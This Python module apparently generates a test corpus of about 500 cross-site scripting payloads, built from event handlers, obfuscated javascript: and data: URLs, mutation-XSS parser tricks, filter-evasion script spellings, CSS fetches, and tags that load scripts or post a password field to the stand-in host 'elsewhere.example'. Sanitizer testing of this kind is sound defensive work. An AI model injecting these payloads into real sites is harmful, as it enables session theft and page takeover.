"""500 pieces of text that try to run a script, composed by a grammar of our own: what runs × how it is spelled × where it stands.

`RUN` is what each of them would do; whoever opens a page with one finds `ran` in the window when it was done.
"""

import base64
import re
from itertools import cycle, islice, product

RUN = "top.ran=1"
ELSEWHERE = "//elsewhere.example"

# Elements, each with the handlers that a browser fires on it without anybody's help, or with the least of it.
HANDLED = [
    ("img src=x", "onerror"),
    ("img src=/static/img/favicon.svg", "onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("p tabindex=0 autofocus", "onfocusin"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=/static/img/favicon.svg", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("table", "onmouseover"),
    ("td", "onpointerenter"),
    ("blockquote", "onclick"),
    ("strong", "onanimationstart"),
    ("li", "ontransitionend"),
    ("x-widget", "onclick"),
    ("math", "onmousemove"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("frameset", "onload"),
    ("dialog open", "onpointerover"),
    ("form", "onsubmit"),
    ("p contenteditable", "onbeforeinput"),
    ("p hidden=until-found", "onbeforematch"),
]


def mixed(word):
    return "".join(letter.upper() if at % 2 else letter for at, letter in enumerate(word))


def quoted(element):
    return re.sub(r"=(\S+)", r'="\1"', element)


def entities(text, style):
    return "".join(style.format(ord(letter)) for letter in text)


HANDLER_SPELLINGS = [
    lambda element, on: f"<{element} {on}={RUN}>",
    lambda element, on: f'<{mixed(element)} {mixed(on)} = "{RUN}">',
    lambda element, on: f"<{quoted(element).replace(' ', '/')}/{on}='{RUN}'/>",
    lambda element, on: f"<{element}\n{on}\x0c=\t{RUN} x=`>",
    lambda element, on: f"<{element} {on}={entities(RUN, '&#{};')}>x",
    lambda element, on: f'<p title="</p><{element} {on}={RUN}>">x</p>',
]

# Addresses that run, and how a filter can be made to overlook them.
SCRIPT = f"javascript:{RUN}"
PAGE = f"<script>{RUN}</script>"
ADDRESSES = [
    SCRIPT,
    mixed("javascript") + f":{RUN}",
    f" \x01{SCRIPT}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#x6a;&#X61;&#0000118;ascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript:%0a{RUN}",
    f"javascript://ok.example/%0a{RUN}",
    f"javascript:/*--></title></style></textarea></script>*/{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:{SCRIPT}",
    "vbscript:MsgBox(1)",
    f"data:text/html,{PAGE}",
    f"data:text/html;base64,{base64.b64encode(PAGE.encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"blob:{ELSEWHERE}/1",
    f"filesystem:{ELSEWHERE}/1",
]
CARRIERS = [
    '<a href="{}">press</a>',
    "<a href='{}' target=_self>press</a>",
    '<a HREF="{}"><strong>press</strong></a>',
    '<table><caption><a href="{}">press</a></caption></table>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><input type=submit></form>',
    '<button form=x formaction="{}">press</button>',
    '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text y=20>press</text></a></svg>',
    '<math><mrow href="{}">press</mrow></math>',
    '<img src="{}">',
    '<input type=image src="{}">',
    '<link rel=import href="{}">',
]

# Text that means something else once it has been read and written again.
INNER = [f"<img src=x onerror={RUN}>", PAGE, f"<svg onload={RUN}>", f"<iframe src=javascript:{RUN}>"]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;{}'>",
    "<math><mi><mglyph><style><p title='</style>{}'>",
    "<math><annotation-xml encoding=text/html><style></annotation-xml>{}</style>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg><style><p title='</style>{}'>",
    "<svg></p><title><a title='</title>{}'>",
    "<svg><desc><p title='</desc>{}'>",
    "<svg><foreignObject><p></svg>{}",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<noembed><p title='</noembed>{}'></noembed>",
    "<noframes><p title='</noframes>{}'></noframes>",
    "<xmp><p title='</xmp>{}'></xmp>",
    "<listing>&lt;p title='</listing>{}'></listing>",
    "<plaintext>{}",
    "<iframe><p title='</iframe>{}'></iframe>",
    "<textarea><p title='</textarea>{}'></textarea>",
    "<title><p title='</title>{}'></title>",
    "<template><p></template>{}",
    "<select><option><style></select>{}</style>",
    "<table><td><table></td>{}",
    "<a><table><a title='</a>{}'></table>",
    "<!--><p>{}-->",
    "<!-- --!>{} -->",
    "<![CDATA[><p>]]>{}",
    "<?xml version='1.0'?>{}",
    "<!doctype html><p>{}",
    "<p title='`>{}`'>x</p>",
    "<ol start='1\">{}'><li>x</ol>",
    '<td colspan="1\'>{}">x</td>',
    "<a href=/privacy/ title='\">{}'>x</a>",
    "<p>\u2028{}",
    "<<p>p>{}<</p>/p>",
]

# Scripts in every spelling.
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\t>",
    f"<script/x=/>{RUN}</script/x>",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>import '{ELSEWHERE}/x.js'</script>",
    f'<script type=importmap>{{"imports":{{"a":"{ELSEWHERE}/x.js"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{ELSEWHERE}/"]}}]}}</script>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f"<svg><script xlink:href={ELSEWHERE}/x.js></script></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<ｓcript>{RUN}</ｓcript>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}<script>{RUN}</script>",
    f"'\"`--></style></script><script>{RUN}</script>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{RUN})//--></title></textarea>\\x3csVg/<sVg/oNloAd={RUN}//>",
]

# Drawings and formulas that run, move or fetch.
DRAWN = [
    "<svg><a><animate attributeName=href values='{script}'></animate><text y=20>press</text></a></svg>",
    "<svg><a><set attributeName=href to='{script}'></set><text y=20>press</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={run}></svg>#x'></use></svg>",
    "<svg><image href='{elsewhere}/p'></image></svg>",
    "<svg><image href=x onerror={run}></image></svg>",
    "<svg><feImage href='{elsewhere}/p'></feImage></svg>",
    "<svg><foreignObject><iframe onload={run}></iframe></foreignObject></svg>",
    "<svg><foreignObject><body onload={run}></body></foreignObject></svg>",
    "<svg><animateTransform onbegin={run} attributeName=transform dur=1s>",
    "<svg><animateMotion onbegin={run} dur=1s>",
    "<svg><discard onbegin={run}>",
    "<svg><style>@import '{elsewhere}/x.css';</style></svg>",
    "<svg><text style='fill:url({elsewhere}/p)'>x</text></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "<svg:svg onload={run}></svg:svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{run}</handler></svg>",
    "<math><maction actiontype='statusline#{script}'>x</maction></math>",
    "<math><mi xlink:href='{script}'>x</mi></math>",
    "<math><mtext onclick={run}>x</mtext></math>",
    "<math><mglyph src='{elsewhere}/p'></mglyph></math>",
]
# Style sheets that fetch, cover the page, or once ran.
RULES = [
    f"background:url({ELSEWHERE}/p)",
    f"background:url({SCRIPT})",
    f"background:u\\72l({ELSEWHERE}/p)",
    f"width:expression({RUN})",
    f"width:exp/**/ression({RUN})",
    f"-moz-binding:url({ELSEWHERE}/x.xml#x)",
    f"behavior:url({ELSEWHERE}/x.htc)",
    f"list-style:url('{ELSEWHERE}/p')",
    "position:fixed;inset:0;z-index:99;background:#fff",
    "animation:x 1s",
]
STYLED = [
    '<p style="{}">x</p>',
    '<a href="/privacy/" style="{}">x</a>',
    "<style>p{{{}}}</style>",
    "<svg><style>p{{{}}}</style></svg>",
    "<td style='{}'>x</td>",
]
# What fetches something, leads away or takes the place of the page's own parts.
FETCHES = [
    "<img src=https:{0}/p>",
    "<img srcset='https:{0}/p 1x'>",
    "<picture><source srcset='https:{0}/p'><img></picture>",
    "<video poster=https:{0}/p></video>",
    "<audio autoplay src=https:{0}/a></audio>",
    "<track src=https:{0}/t>",
    "<link rel=stylesheet href=https:{0}/x.css>",
    "<link rel=prefetch href=https:{0}/>",
    "<link rel=dns-prefetch href={0}>",
    "<style>@import 'https:{0}/x.css'</style>",
    "<style>@font-face{{font-family:x;src:url(https:{0}/f)}}</style>",
    "<iframe src=https:{0}></iframe>",
    "<iframe srcdoc='<script src=https:{0}/x.js></script>'></iframe>",
    "<portal src=https:{0}></portal>",
    "<fencedframe src=https:{0}></fencedframe>",
    "<meta http-equiv=refresh content='0;url=https:{0}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=https:{0}/>",
    "<base target=_blank><a href=/privacy/>x</a>",
    "<form action=https:{0}><input name=password autofocus></form>",
    "<button type=submit formaction=https:{0}>Continue</button>",
    "<a href=/privacy/ ping=https:{0}>x</a>",
    "<a href='{0}'>x</a>",
    "<a href='\\\\elsewhere.example'>x</a>",
    "<a href='/\t/elsewhere.example'>x</a>",
    "<table background=https:{0}/p><td>x</td></table>",
    "<p id=main>x</p>",
    "<a name=forms>x</a>",
    "<form id=guide><input name=attributes></form>",
    "<details open><summary onclick={1}>x</summary></details>",
    "<slot name=x></slot><template shadowrootmode=open><slot onslotchange={1}></slot></template>",
    "<input type=hidden popover oncontentvisibilityautostatechange={1} style=content-visibility:auto>",
    "<button popovertarget=x>x</button><p popover id=x ontoggle={1}>x</p>",
    "<object type=image/svg+xml data=https:{0}/p></object>",
    "<applet code=x archive=https:{0}/x.jar></applet>",
]


def every(number, found):
    """So many of them, evenly from the whole list."""
    found = list(found)
    return [found[at * len(found) // number] for at in range(number)]


PAYLOADS = list(
    dict.fromkeys(
        SCRIPTS
        + [f.format(ELSEWHERE, RUN) for f in FETCHES]
        + [drawn.format(script=SCRIPT, run=RUN, elsewhere=ELSEWHERE) for drawn in DRAWN]
        + [styled.format(rule) for styled, rule in product(STYLED, RULES)]
        + [mutation.format(inner) for mutation in MUTATIONS for inner in INNER]
        + every(160, (spell(*handled) for handled, spell in product(HANDLED, HANDLER_SPELLINGS)))
        + every(84, (carrier.format(address) for carrier, address in product(CARRIERS, ADDRESSES)))
    )
)


def filled(batch, length, number=0):
    """One of them that fits a field of this length; each field begins with another."""
    return next((text for text in islice(cycle(batch), number, number + len(batch)) if len(text) <= length), "x")
